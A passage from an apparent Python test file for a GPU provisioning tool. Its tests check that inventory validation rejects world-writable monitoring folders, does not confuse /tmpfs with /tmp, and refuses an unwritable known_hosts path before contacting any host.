    line = f"  gpu01: {{address: 10.0.0.1, vars: {{validate: {{textfile_dir: {folder}}}}}}}"
    errors = inventory_errors(tmp_path, f"hosts:\n{line}\n")
    assert len(errors) == 1 and errors[0].startswith(f"{tmp_path}/inv.yaml:2:{line.index(folder) + 1}: "
                                                     "hosts.gpu01.vars.validate.textfile_dir: ")
    assert "which every user may write into" in errors[0]


def test_a_textfile_folder_beside_tmp_is_not_taken_for_it(tmp_path):
    from gpuprov.monitoring.policy import build_policy

    path = tmp_path / "inv.yaml"
    path.write_text("hosts:\n  gpu01: {address: 10.0.0.1, vars: {validate: {textfile_dir: /tmpfs/prom}}}\n")
    host = load_inventory(path).host("gpu01")
    assert validate_vars(host).textfile_dir == "/tmpfs/prom" == build_policy(host).textfile_dir


def test_a_known_hosts_under_a_file_is_exit_2_before_any_host_when_keys_are_recorded(tmp_path, capsys, contacted):
    (tmp_path / "ssh").write_text("")
    c = context(tmp_path, known_hosts=str(tmp_path / "ssh" / "known_hosts"))
    err = bad_input(facts_tasks.facts, c, capsys, all=True, trust_new_hosts=True)
    assert f"gpuprov.known_hosts: cannot write {tmp_path}/ssh/known_hosts: {tmp_path}/ssh is a file" in err
    assert contacted == []
